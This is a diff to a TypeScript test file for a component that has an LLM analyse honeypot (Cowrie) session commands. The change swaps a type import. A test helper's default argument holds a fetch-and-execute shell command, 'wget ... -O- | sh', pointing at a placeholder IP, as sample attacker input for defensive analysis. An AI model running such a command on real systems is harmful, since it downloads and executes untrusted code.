@@ -1,10 +1,10 @@
+import type { SessionMaterial } from '@cerberusmesh/contract/session-material';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { eventIds, type LlmServer, soberReading, startLlmServer } from '../../../test/support/llm-server.ts';
 import { Secret } from '../../kit/secret.ts';
 import { createTrialBreaker } from '../../kit/trial-breaker.ts';
 import { type Analyst, type CachedReading, createAnalyst } from './analyst.ts';
 import { createLanguageModel, type ModelChoice } from './language-model.ts';
-import type { Material } from './material.ts';
 
 const eventId = (place: number) => `0196a000-0000-7000-8000-00000000000${place}`;
 
@@ -176,7 +176,7 @@ describe('an analyst at an OpenAI-compatible server', () => {
   }
 });
 
-function aSession(command = 'wget http://192.0.2.9/x -O- | sh'): Material {
+function aSession(command = 'wget http://192.0.2.9/x -O- | sh'): SessionMaterial {
   const event = { type: 'cowrie.command.input', second: 1, severity: 'HIGH', techniques: ['T1105'] };
   return {
     sensor: 'sensor-a',
